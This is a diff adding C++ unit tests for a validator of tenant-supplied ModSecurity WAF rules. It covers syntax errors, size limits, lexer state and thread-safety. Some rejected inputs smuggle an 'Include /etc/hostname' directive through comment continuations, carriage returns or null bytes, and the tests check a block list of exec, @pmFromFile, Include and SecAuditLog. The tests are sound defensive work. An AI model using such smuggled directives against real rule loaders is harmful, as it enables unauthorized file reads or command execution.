+      {R"(SecAction "id:1,pass" SecRuleEngine Off)", "needs SecAction ACTIONS"},
+      {R"(SecRule ARGS "@rx a" "id:1,deny" # trailing comment)", "needs SecRule VARIABLES OPERATOR ACTIONS"},
+      {R"(SecRule ARGS "@rx a"id:1)", "blank after a closing quote"},
+      {R"(SecRule ARGS @rx"a" "id:1")", "quote inside an unquoted argument"},
+      {R"(SecRule ARGS "@rx a)", "unterminated quoted string"},
+      {"SecRule ARGS \"@rx a\nb\" \"id:1,deny\"", "unterminated quoted string (line 1)"},
+      {R"("SecRule" ARGS "@rx a" "id:1,deny")", "must not quote a directive name"},
+      {"# harmless \\\nInclude /etc/hostname", "must not end a comment with a line continuation (line 1)"},
+      {"SecRule ARGS \"@rx a\" \"id:1,deny\" \\", "must not end with a line continuation"},
+      {"SecAction \"id:1,pass\"\rInclude /etc/hostname", "carriage return"},
+      {std::string("SecAction \"id:1,pass\"\0Include /etc/hostname", 42), "control characters"},
+      {"SecAction \"id:1,pass\x1b\"", "control characters"},
+      // The raw net: load-time I/O keywords anywhere.
+      {R"(SecRule ARGS "@pm include require" "id:1,deny")", "directive Include is not allowed in tenant rules (line 1)"},
+      {"# we avoid @pmFromFile here\nSecAction \"id:1,pass\"", "operator @pmFromFile"},
+      {R"(SecRule ARGS "@rx a" "id:1,deny,msg:'exec: attempt'")", "action exec"},
+      {"# SecAuditLog is the platform's\nSecAction \"id:1,pass\"", "directive SecAuditLog"},
+      // Size.
+      {std::string(65537, '#'), "at most 65536 bytes"},
+  };
+  for (const auto& r : bad) {
+    CAPTURE(r.in.substr(0, 120));
+    expect_bad(waf_directives(r.in), r.why);
+  }
+}
+
+TEST_CASE("waf_directives returns the engine's message for rules it rejects") {
+  const Bad bad[] = {
+      {R"(SecRule ARGS "@rx a" "id:1,deny,t:noSuchTransformation")", "Expecting an action, got: t:noSuchTransformation"},
+      {R"(SecRule ARGS "@within" "id:1,deny")", "syntax error"},
+      {R"(SecRule ARGS "@rx a" "id:1,deny,status:99999999999")", "Not a valid number"},
+      {R"(SecRule ARGS "@rx a" "id:1,deny,sanitiseArg:password")", "not yet supported"},
+      {R"(SecRule ARGS "@ipMatch 1.2.3.4/99" "id:1,deny")", "must be valid ModSecurity directives"},
+  };
+  for (const auto& r : bad) {
+    CAPTURE(r.in);
+    auto p = waf_directives(r.in);
+    expect_bad(p, "must be valid ModSecurity directives: ");
+    expect_bad(p, r.why);
+    if (p) {
+      CHECK(p->find("File:") == std::string::npos);
+      CHECK(p->find("<<") == std::string::npos);
+      CHECK(p->find('\n') == std::string::npos);
+    }
+  }
+}
+
+TEST_CASE("waf_directives: one parse does not leak lexer state into the next") {
+  // libmodsecurity 3.0.9 keeps a lexer flag set after SecRuleUpdateTargetById at the end of a text,
+  // which made the next parse in the process fail.
+  expect_ok(waf_directives("SecRuleUpdateTargetById 5 !ARGS:foo"));
+  expect_ok(waf_directives(R"(SecRule ARGS:a|ARGS:b "@rx a" "id:1,deny")"));
+  expect_bad(waf_directives("SecRuleUpdateTargetById 5 \"!ARGS:foo"), "");
+  expect_ok(waf_directives(R"(SecRule ARGS "@rx a" "id:1,deny")"));
+}
+
+TEST_CASE("waf_directives is safe to call from several threads") {
+  const std::string good = many_rules(20);
+  const std::string bad = R"(SecRule ARGS "@rx a" "id:1,deny,t:noSuchTransformation")";
+  std::vector<std::thread> threads;
+  std::vector<int> failures(4, 0);
+  for (int t = 0; t < 4; ++t) {
+    threads.emplace_back([&, t] {
+      for (int i = 0; i < 25; ++i) {
+        if (waf_directives(good).has_value()) ++failures[t];
+        if (!waf_directives(bad).has_value()) ++failures[t];
+        if (waf_directives("SecRuleUpdateTargetById 5 !ARGS:foo").has_value()) ++failures[t];
+      }
+    });
+  }
+  for (auto& th : threads) th.join();
+  for (int f : failures) CHECK(f == 0);
+}
+
+TEST_CASE("waf_directives timing for 100 rules") {
+  const std::string text = many_rules(100);
+  auto start = std::chrono::steady_clock::now();
+  constexpr int kRuns = 20;
+  for (int i = 0; i < kRuns; ++i) expect_ok(waf_directives(text));
+  auto per_run = std::chrono::duration_cast<std::chrono::microseconds>(std::chrono::steady_clock::now() - start) / kRuns;
+  MESSAGE("validating " << text.size() << " bytes / 100 rules takes " << per_run.count() << " us");
+  CHECK(per_run < std::chrono::seconds(1));
+}
+
+}  // namespace
+}  // namespace gw::fields
